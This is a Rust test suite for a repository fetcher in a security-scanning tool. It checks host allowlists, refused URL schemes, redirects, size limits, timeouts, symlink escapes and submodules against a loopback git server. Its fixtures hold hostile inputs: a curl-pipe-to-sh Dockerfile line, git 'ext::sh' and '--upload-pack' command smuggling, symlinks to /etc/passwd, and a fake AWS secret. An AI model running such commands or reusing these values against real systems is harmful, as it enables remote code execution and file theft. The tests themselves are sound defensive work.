//! Fetching untrusted repositories, against a git server on loopback: a
//! tiny HTTP server in this file runs `git http-backend` (smart HTTP) as a
//! CGI program over bare repositories made in a temporary directory. No
//! network beyond 127.0.0.1.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use skillaudit_engine::fetch::{fetch, fetch_ref, AllowedHost, FetchError, FetchPolicy};

#[derive(Clone)]
enum Mode {
    /// Serve the bare repositories under this directory; optionally send
    /// responses slowly (bytes per pause).
    Git {
        root: PathBuf,
        throttle: Option<(usize, Duration)>,
    },
    /// Answer every request with a redirect to this URL prefix.
    Redirect(String),
    /// Accept connections and never answer.
    Hang,
}

struct Server {
    addr: SocketAddr,
    /// Connections accepted so far.
    connections: Arc<AtomicUsize>,
    /// (Hang) a client closed its connection.
    client_closed: Arc<AtomicBool>,
    /// (Git) responses of more than 1 MiB sent to the end.
    large_responses_sent: Arc<AtomicUsize>,
}

impl Server {
    fn start(mode: Mode) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let connections = Arc::new(AtomicUsize::new(0));
        let client_closed = Arc::new(AtomicBool::new(false));
        let large_responses_sent = Arc::new(AtomicUsize::new(0));
        let (c, closed, large) = (
            connections.clone(),
            client_closed.clone(),
            large_responses_sent.clone(),
        );
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                c.fetch_add(1, Ordering::SeqCst);
                let (mode, closed, large) = (mode.clone(), closed.clone(), large.clone());
                std::thread::spawn(move || match mode {
                    Mode::Git { root, throttle } => {
                        if matches!(serve_git(stream, &root, throttle), Ok(n) if n > 1 << 20) {
                            large.fetch_add(1, Ordering::SeqCst);
                        }
                    }
                    Mode::Redirect(to) => {
                        let _ = serve_redirect(stream, &to);
                    }
                    Mode::Hang => {
                        // Read until the client goes away; never write.
                        let mut s = stream;
                        let mut buf = [0u8; 4096];
                        while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
                        closed.store(true, Ordering::SeqCst);
                    }
                });
            }
        });
        Server {
            addr,
            connections,
            client_closed,
            large_responses_sent,
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn host(&self) -> String {
        self.addr.to_string()
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

struct Request {
    method: String,
    path: String,
    query: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Request {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
}

fn read_request(stream: &TcpStream) -> std::io::Result<Request> {
    let mut r = BufReader::new(stream.try_clone()?);
    let mut line = String::new();
    r.read_line(&mut line)?;
    let mut parts = line.split_whitespace();
    let method = parts.next().unwrap_or("").to_string();
    let target = parts.next().unwrap_or("").to_string();
    let (path, query) = target
        .split_once('?')
        .map(|(p, q)| (p.to_string(), q.to_string()))
        .unwrap_or((target, String::new()));
    let mut headers = Vec::new();
    loop {
        let mut h = String::new();
        if r.read_line(&mut h)? == 0 || h.trim().is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            headers.push((k.trim().to_string(), v.trim().to_string()));
        }
    }
    let mut req = Request {
        method,
        path,
        query,
        headers,
        body: Vec::new(),
    };
    if let Some(n) = req
        .header("content-length")
        .and_then(|v| v.parse::<usize>().ok())
    {
        let mut body = vec![0; n];
        r.read_exact(&mut body)?;
        req.body = body;
    } else if req
        .header("transfer-encoding")
        .is_some_and(|v| v.eq_ignore_ascii_case("chunked"))
    {
        loop {
            let mut size = String::new();
            r.read_line(&mut size)?;
            let n = usize::from_str_radix(size.trim(), 16).unwrap_or(0);
            let mut chunk = vec![0; n + 2];
            r.read_exact(&mut chunk)?;
            if n == 0 {
                break;
            }
            req.body.extend_from_slice(&chunk[..n]);
        }
    }
    Ok(req)
}

fn serve_git(
    mut stream: TcpStream,
    root: &Path,
    throttle: Option<(usize, Duration)>,
) -> std::io::Result<usize> {
    let req = read_request(&stream)?;
    let mut cmd = Command::new("git");
    cmd.arg("http-backend")
        .env("GIT_PROJECT_ROOT", root)
        .env("GIT_HTTP_EXPORT_ALL", "1")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("REQUEST_METHOD", &req.method)
        .env("PATH_INFO", &req.path)
        .env("QUERY_STRING", &req.query)
        .env("CONTENT_LENGTH", req.body.len().to_string())
        .env("REMOTE_ADDR", "127.0.0.1")
        .env("SERVER_PROTOCOL", "HTTP/1.1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null());
    for (header, var) in [
        ("content-type", "CONTENT_TYPE"),
        ("git-protocol", "GIT_PROTOCOL"),
        ("content-encoding", "HTTP_CONTENT_ENCODING"),
    ] {
        if let Some(v) = req.header(header) {
            cmd.env(var, v);
        }
    }
    let mut child = cmd.spawn()?;
    let mut stdin = child.stdin.take().unwrap();
    let body = req.body;
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all(&body);
    });
    let mut out = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut out)?;
    let _ = writer.join();
    let _ = child.wait();
    // CGI output: headers, a blank line, the body.
    let (head, body) = match find(&out, b"\r\n\r\n") {
        Some(i) => (&out[..i], &out[i + 4..]),
        None => match find(&out, b"\n\n") {
            Some(i) => (&out[..i], &out[i + 2..]),
            None => (&out[..0], &out[..]),
        },
    };
    let head = String::from_utf8_lossy(head);
    let mut status = "200 OK".to_string();
    let mut response = Vec::new();
    for line in head.lines() {
        match line.split_once(':') {
            Some((k, v)) if k.eq_ignore_ascii_case("status") => status = v.trim().to_string(),
            Some(_) => response.extend_from_slice(format!("{line}\r\n").as_bytes()),
            None => {}
        }
    }
    let mut all = format!("HTTP/1.1 {status}\r\n").into_bytes();
    all.extend_from_slice(&response);
    all.extend_from_slice(
        format!(
            "Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .as_bytes(),
    );
    all.extend_from_slice(body);
    match throttle {
        None => stream.write_all(&all)?,
        Some((n, pause)) => {
            for chunk in all.chunks(n) {
                stream.write_all(chunk)?;
                stream.flush()?;
                std::thread::sleep(pause);
            }
        }
    }
    stream.flush()?;
    Ok(all.len())
}

fn serve_redirect(mut stream: TcpStream, to: &str) -> std::io::Result<()> {
    let req = read_request(&stream)?;
    let location = format!("{to}{}?{}", req.path, req.query);
    write!(stream, "HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")?;
    stream.flush()
}

fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).position(|w| w == needle)
}

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "init.defaultBranch=main",
            "-c",
            "core.symlinks=true",
        ])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A bare repository `<served>/<name>.git` with these files (and symlinks:
/// content beginning with `->`); returns its HEAD commit.
fn make_repo(served: &Path, name: &str, files: &[(&str, &[u8])]) -> String {
    let work = served.join(format!("{name}-work"));
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q"]);
    for (path, content) in files {
        let p = work.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        match content.strip_prefix(b"->") {
            Some(target) => {
                std::os::unix::fs::symlink(std::str::from_utf8(target).unwrap(), &p).unwrap()
            }
            None => std::fs::write(&p, content).unwrap(),
        }
    }
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "test"]);
    let head = git(&work, &["rev-parse", "HEAD"]);
    git(
        served,
        &[
            "clone",
            "-q",
            "--bare",
            &format!("{name}-work"),
            &format!("{name}.git"),
        ],
    );
    head
}

/// Pseudo-random, incompressible bytes.
fn noise(n: usize) -> Vec<u8> {
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect()
}

fn entries(dir: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect()
}

/// A policy allowing exactly this loopback server over plain http, its
/// checkouts made in `work`.
fn policy_for(server: &Server, work: &Path) -> FetchPolicy {
    let mut p = FetchPolicy::none()
        .allow(AllowedHost::explicit(&server.host()).unwrap().allow_http())
        .timeout(Duration::from_secs(60));
    p.work_dir = Some(work.to_path_buf());
    p
}

const DOCKERFILE: &[u8] =
    b"FROM ubuntu:latest\nRUN curl -fsSL https://example.invalid/install.sh | sh\n";

#[test]
fn fetches_an_explicitly_allowed_loopback_host_and_deletes_the_checkout_on_drop() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::create_dir_all(&served).unwrap();
    let head = make_repo(
        &served,
        "app",
        &[("Dockerfile", DOCKERFILE), ("README.md", b"# app\n")],
    );
    let server = Server::start(Mode::Git {
        root: served.clone(),
        throttle: None,
    });

    let checkout = fetch(&server.url("/app.git"), &policy_for(&server, &work)).unwrap();
    assert_eq!(checkout.commit, head);
    assert_eq!(checkout.url, server.url("/app.git"));
    assert_eq!(
        std::fs::read(checkout.root().join("Dockerfile")).unwrap(),
        DOCKERFILE
    );
    // Shallow (one commit), under work/.
    assert_eq!(
        std::fs::read_to_string(checkout.root().join(".git/shallow"))
            .unwrap()
            .trim(),
        head
    );
    assert!(checkout.dir().starts_with(&work));
    let result = skillaudit_engine::scan(&skillaudit_engine::ScanOptions {
        targets: vec![checkout.root().to_string_lossy().into_owned()],
        ..Default::default()
    })
    .unwrap();
    assert!(
        result.findings.iter().any(|f| f.path == "Dockerfile"),
        "no findings in the fetched Dockerfile"
    );
    let dir = checkout.dir().to_path_buf();
    assert!(dir.exists());
    drop(checkout);
    assert!(!dir.exists(), "checkout not deleted on drop");
    assert!(entries(&work).is_empty());
}

#[test]
fn fetches_a_named_branch() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    make_repo(&served, "app", &[("Dockerfile", DOCKERFILE)]);
    let work_repo = served.join("app-work");
    git(&work_repo, &["checkout", "-q", "-b", "feature"]);
    std::fs::write(
        work_repo.join("compose.yaml"),
        "services:\n  a:\n    image: x\n",
    )
    .unwrap();
    git(&work_repo, &["add", "-A"]);
    git(&work_repo, &["commit", "-q", "-m", "feature"]);
    let feature_head = git(&work_repo, &["rev-parse", "HEAD"]);
    git(&work_repo, &["push", "-q", "../app.git", "feature"]);
    let server = Server::start(Mode::Git {
        root: served,
        throttle: None,
    });
    let policy = policy_for(&server, tmp.path());
    let main = fetch(&server.url("/app.git"), &policy).unwrap();
    assert!(!main.root().join("compose.yaml").exists());
    let feature = fetch_ref(&server.url("/app.git"), Some("feature"), &policy).unwrap();
    assert_eq!(feature.commit, feature_head);
    assert!(feature.root().join("compose.yaml").exists());
    assert!(matches!(
        fetch_ref(
            &server.url("/app.git"),
            Some("--upload-pack=touch /tmp/x"),
            &policy
        )
        .unwrap_err(),
        FetchError::BadRef(_)
    ));
}

#[test]
fn loopback_is_refused_unless_explicitly_allowed() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    make_repo(&served, "app", &[("Dockerfile", DOCKERFILE)]);
    let server = Server::start(Mode::Git {
        root: served,
        throttle: None,
    });
    let port = server.addr.port();

    // Not on the list at all (the default list).
    let err = fetch(
        &format!("https://127.0.0.1:{port}/app.git"),
        &FetchPolicy::default(),
    )
    .unwrap_err();
    assert!(
        matches!(err, FetchError::HostNotAllowed(ref h) if *h == format!("127.0.0.1:{port}")),
        "{err}"
    );
    // On the list, but not allowed to be private: the literal and a name
    // that resolves to loopback are both refused.
    for host in ["127.0.0.1", "localhost"] {
        let policy = FetchPolicy::none().allow(
            AllowedHost::explicit(&format!("{host}:{port}"))
                .unwrap()
                .allow_http()
                .allow_private(false),
        );
        let err = fetch(&format!("http://{host}:{port}/app.git"), &policy).unwrap_err();
        assert!(
            matches!(err, FetchError::PrivateAddress { ref address, .. } if address.is_loopback()),
            "{host}: {err}"
        );
        assert!(err.to_string().contains("non-public"), "{err}");
    }
    // A public-only entry (the default kind) for an IPv6 loopback literal.
    let policy = FetchPolicy::none().allow(
        AllowedHost::explicit(&format!("[::1]:{port}"))
            .unwrap()
            .allow_private(false),
    );
    assert!(matches!(
        fetch(&format!("https://[::1]:{port}/app.git"), &policy).unwrap_err(),
        FetchError::PrivateAddress { .. }
    ));
    let policy = FetchPolicy::none().allow(
        AllowedHost::explicit(&format!("[::ffff:127.0.0.1]:{port}"))
            .unwrap()
            .allow_private(false),
    );
    assert!(matches!(
        fetch(
            &format!("https://[::ffff:127.0.0.1]:{port}/app.git"),
            &policy
        )
        .unwrap_err(),
        FetchError::PrivateAddress { .. }
    ));
    assert_eq!(server.connections(), 0, "a refused URL reached the server");

    // Explicitly allowed (private allowed): the name works too.
    let policy = FetchPolicy::none().allow(
        AllowedHost::explicit(&format!("localhost:{port}"))
            .unwrap()
            .allow_http(),
    );
    let checkout = fetch(&format!("http://localhost:{port}/app.git"), &policy).unwrap();
    assert!(checkout.root().join("Dockerfile").is_file());
}

#[test]
fn refused_schemes_and_forms_never_reach_a_server() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    make_repo(&served, "app", &[("Dockerfile", DOCKERFILE)]);
    let server = Server::start(Mode::Git {
        root: served.clone(),
        throttle: None,
    });
    let host = server.host();
    // The host is allowed, https only.
    let policy = FetchPolicy::none().allow(AllowedHost::explicit(&host).unwrap());
    let bare = served.join("app.git");
    let bare = bare.display();
    let cases: Vec<(String, &str)> = vec![
        (format!("http://{host}/app.git"), "scheme"),
        (format!("file://{bare}"), "scheme"),
        (bare.to_string(), "malformed"),
        (format!("ssh://{host}/app.git"), "scheme"),
        (format!("git://{host}/app.git"), "scheme"),
        (
            format!("ext::git --git-dir={bare} upload-pack %s"),
            "malformed",
        ),
        (format!("ext::sh%-c%touch%{bare}/pwned"), "scheme"),
        ("fd::0".to_string(), "scheme"),
        (format!("git@{}:app.git", server.addr.ip()), "scheme"),
        ("127.0.0.1:app.git".to_string(), "scheme"),
        (format!("https::{host}/app.git"), "scheme"),
        (format!("-uhttps://{host}/app.git"), "option"),
        (format!("--upload-pack=touch {bare}/pwned"), "option"),
        (format!("https://user:secret@{host}/app.git"), "credentials"),
        (format!("https://token@{host}/app.git"), "credentials"),
        (format!("http://user:secret@{host}/app.git"), "credentials"),
        (format!("https://{host}/app.git?x=1"), "malformed"),
        (format!("https://{host}/../app.git"), "malformed"),
        (format!("https://{host}/app.git#frag"), "malformed"),
        ("https://evil.example/app.git".to_string(), "host"),
        (format!("https://{}/app.git", server.addr.ip()), "host"),
    ];
    for (url, want) in &cases {
        let err = fetch(url, &policy).unwrap_err();
        let got = match err {
            FetchError::Scheme(_) => "scheme",
            FetchError::Malformed(_) => "malformed",
            FetchError::OptionLike => "option",
            FetchError::Credentials => "credentials",
            FetchError::HostNotAllowed(_) => "host",
            ref other => panic!("{url}: unexpected {other:?}"),
        };
        assert_eq!(got, *want, "{url}: {err}");
        assert!(!err.to_string().contains("secret"), "{err}");
    }
    assert!(!served.join("app.git/pwned").exists());
    assert_eq!(server.connections(), 0, "a refused URL reached the server");
}

#[test]
fn redirects_are_not_followed() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    make_repo(&served, "app", &[("Dockerfile", DOCKERFILE)]);
    let target = Server::start(Mode::Git {
        root: served,
        throttle: None,
    });
    let redirect = Server::start(Mode::Redirect(format!("http://{}", target.host())));
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&work).unwrap();
    // Both hosts allowed: the redirect itself is what is refused.
    let mut policy = policy_for(&redirect, &work)
        .allow(AllowedHost::explicit(&target.host()).unwrap().allow_http());
    policy.timeout = Duration::from_secs(30);
    let err = fetch(&redirect.url("/app.git"), &policy).unwrap_err();
    assert!(matches!(err, FetchError::Git(_)), "{err:?}");
    assert!(redirect.connections() >= 1);
    assert_eq!(target.connections(), 0, "the redirect was followed");
    assert!(
        entries(&work).is_empty(),
        "checkout left behind after a failure"
    );
}

#[test]
fn an_oversized_repository_is_stopped_and_deleted() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&served).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    let big = noise(3 << 20);
    make_repo(
        &served,
        "big",
        &[("Dockerfile", DOCKERFILE), ("blob.bin", &big)],
    );
    let server = Server::start(Mode::Git {
        root: served,
        throttle: None,
    });
    let policy = policy_for(&server, &work).max_bytes(1 << 20);
    let err = fetch(&server.url("/big.git"), &policy).unwrap_err();
    assert_eq!(err, FetchError::TooLarge(1 << 20));
    assert!(err.to_string().contains("larger than the limit"), "{err}");
    assert!(entries(&work).is_empty(), "oversized checkout left behind");
    // The same repository fits a larger limit.
    let ok = fetch(&server.url("/big.git"), &policy.max_bytes(16 << 20)).unwrap();
    assert!(ok.root().join("blob.bin").is_file());
}

#[test]
fn an_oversized_repository_is_stopped_while_it_downloads() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    let work = tmp.path().join("work");
    std::fs::create_dir_all(&served).unwrap();
    std::fs::create_dir_all(&work).unwrap();
    let big = noise(4 << 20);
    make_repo(&served, "big", &[("blob.bin", &big)]);
    // 16 KiB every 50 ms: the whole pack would take more than 12 s.
    let server = Server::start(Mode::Git {
        root: served,
        throttle: Some((16 << 10, Duration::from_millis(50))),
    });
    let policy = policy_for(&server, &work).max_bytes(512 << 10);
    let err = fetch(&server.url("/big.git"), &policy).unwrap_err();
    assert_eq!(err, FetchError::TooLarge(512 << 10));
    // Stopped mid-download: the server never got to send the whole pack.
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        server.large_responses_sent.load(Ordering::SeqCst),
        0,
        "the pack was downloaded to the end"
    );
    assert!(entries(&work).is_empty(), "oversized checkout left behind");
}

#[test]
fn a_clone_that_hangs_is_killed_at_the_time_limit() {
    let tmp = tempfile::tempdir().unwrap();
    let server = Server::start(Mode::Hang);
    let policy = policy_for(&server, tmp.path()).timeout(Duration::from_secs(2));
    let started = Instant::now();
    let err = fetch(&server.url("/app.git"), &policy).unwrap_err();
    let took = started.elapsed();
    assert_eq!(err, FetchError::TimedOut(Duration::from_secs(2)));
    assert!(
        took >= Duration::from_secs(2) && took < Duration::from_secs(10),
        "{took:?}"
    );
    assert!(server.connections() >= 1);
    // The whole process group went: the helper holding the connection too.
    let wait = Instant::now();
    while !server.client_closed.load(Ordering::SeqCst) && wait.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        server.client_closed.load(Ordering::SeqCst),
        "git's connection is still open after the kill"
    );
    assert!(
        entries(tmp.path()).is_empty(),
        "checkout left behind after a timeout"
    );
}

#[test]
fn a_symlinked_dockerfile_leaks_nothing_from_outside_the_checkout() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&served).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    // A file outside the checkout that would produce findings if read.
    let marker = "SECRET_MARKER_9f2c";
    std::fs::write(outside.join("Dockerfile"), format!("FROM ubuntu:latest\nENV AWS_SECRET_ACCESS_KEY={marker}wJalrXUtnFEMIK7MDENGbPxRfiCY\nUSER root\n")).unwrap();
    let outside_dockerfile = format!("->{}", outside.join("Dockerfile").display());
    let outside_dir = format!("->{}", outside.display());
    make_repo(
        &served,
        "links",
        &[
            ("Dockerfile", b"->/etc/passwd"),
            ("compose.yaml", b"->../../../../../../../../etc/passwd"),
            ("build/Dockerfile", outside_dockerfile.as_bytes()),
            (".devcontainer", outside_dir.as_bytes()),
            ("README.md", b"# links\n"),
        ],
    );
    let server = Server::start(Mode::Git {
        root: served,
        throttle: None,
    });
    let checkout = fetch(&server.url("/links.git"), &policy_for(&server, tmp.path())).unwrap();
    // The links arrived as links, not as copies.
    assert!(
        std::fs::symlink_metadata(checkout.root().join("Dockerfile"))
            .unwrap()
            .file_type()
            .is_symlink()
    );

    let result = skillaudit_engine::scan(&skillaudit_engine::ScanOptions {
        targets: vec![checkout.root().to_string_lossy().into_owned()],
        ..Default::default()
    })
    .unwrap();
    let root = checkout.root().canonicalize().unwrap();
    for file in &result.project.files {
        let real = file.abs.canonicalize().unwrap_or(file.abs.clone());
        assert!(
            real.starts_with(&root),
            "scanned a file outside the checkout: {}",
            real.display()
        );
        assert!(
            !file.text.contains("root:") && !file.text.contains(marker),
            "{}",
            file.path
        );
    }
    let everything = format!("{:?} {:?}", result.findings, result.notices);
    assert!(
        !everything.contains("root:x:")
            && !everything.contains(marker)
            && !everything.contains("/bin/"),
        "{everything}"
    );
    assert!(result.findings.is_empty(), "{:?}", result.findings);
    let skipped: Vec<&str> = result
        .notices
        .iter()
        .filter(|n| n.message.contains("outside"))
        .map(|n| n.path.as_str())
        .collect();
    assert!(
        skipped.contains(&"Dockerfile") && skipped.contains(&"compose.yaml"),
        "{skipped:?}"
    );
}

#[test]
fn submodules_are_not_fetched() {
    let tmp = tempfile::tempdir().unwrap();
    let served = tmp.path().join("served");
    std::fs::create_dir_all(&served).unwrap();
    make_repo(&served, "inner", &[("Dockerfile", DOCKERFILE)]);
    make_repo(&served, "outer", &[("README.md", b"# outer\n")]);
    let outer = served.join("outer-work");
    let inner = served.join("inner.git");
    git(
        &outer,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &format!("file://{}", inner.display()),
            "sub",
        ],
    );
    git(&outer, &["commit", "-q", "-m", "submodule"]);
    git(&outer, &["push", "-q", "../outer.git", "HEAD:main"]);
    let server = Server::start(Mode::Git {
        root: served,
        throttle: None,
    });
    let checkout = fetch(&server.url("/outer.git"), &policy_for(&server, tmp.path())).unwrap();
    assert!(checkout.root().join(".gitmodules").is_file());
    // The submodule's directory is there, empty: its file:// URL was never used.
    assert!(checkout.root().join("sub").is_dir());
    assert!(entries(&checkout.root().join("sub")).is_empty());
}
